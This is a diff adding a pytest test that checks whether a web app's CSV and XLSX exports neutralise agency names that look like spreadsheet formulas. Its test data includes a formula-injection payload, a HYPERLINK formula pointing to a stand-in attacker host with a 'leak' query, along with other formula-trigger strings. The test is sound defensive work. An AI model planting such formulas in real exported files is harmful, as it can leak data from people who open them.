@@ -7,6 +7,7 @@ record (pytest -s); the bounds asserted are generous, as the machine running the
 
 from __future__ import annotations
 
+import csv
 import io
 import re
 import statistics
@@ -21,7 +22,7 @@ from typing import Any
 
 import httpx
 import pytest
-from openpyxl import Workbook
+from openpyxl import Workbook, load_workbook
 
 from shared.auth import Scope, mint
 from tests.conftest import TEST_SECRET, Namespace
@@ -280,3 +281,29 @@ def test_a_real_file_of_a_few_thousand_rows_is_read_while_others_upload(stack, w
     assert read and all(a.status_code in (200, 503) for a in answers), codes
     assert all(len(a.json()["rows"]) == 3000 for a in read)
     assert watch.slowest_read < MAX_READ_SECONDS
+
+
+FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?leak","Xem")', "+1+1", "-2+3", "@SUM(A1)", "＝1+1"]
+
+
+def test_agency_names_that_look_like_formulas_are_exported_as_text(stack, web):
+    with stack.client(stack.api.url) as admin:
+        for i, name in enumerate(FORMULA_NAMES):
+            answer = admin.post("/v1/admin/agencies", json={"code": f"38-formula{i}", "name": name, "parent": "38"})
+            assert answer.status_code in (200, 201), answer.text
+    params = {"period": "2020-12", "series": "study_session"}
+    as_csv = web.get("/web/units/38/export.csv", params=params)
+    assert as_csv.status_code == 200, as_csv.text
+    names = [row[1] for row in csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig")))]
+    print(f"\nCSV names: {[n for n in names if n.lstrip(chr(39))[:1] in '=+-@＝']}")
+    assert all("'" + name in names for name in FORMULA_NAMES), names
+    assert not any(name in names for name in FORMULA_NAMES)
+    as_xlsx = web.get("/web/units/38/export.xlsx", params=params)
+    assert as_xlsx.status_code == 200, as_xlsx.text
+    with zipfile.ZipFile(io.BytesIO(as_xlsx.content)) as archive:
+        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
+    print(f"formula cells in the .xlsx: {sheet_xml.count('<f>')}")
+    assert "<f>" not in sheet_xml
+    sheet = load_workbook(io.BytesIO(as_xlsx.content)).active
+    cells = {c.value: c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
+    assert all(cells[name].data_type == "s" and cells[name].quotePrefix for name in FORMULA_NAMES)
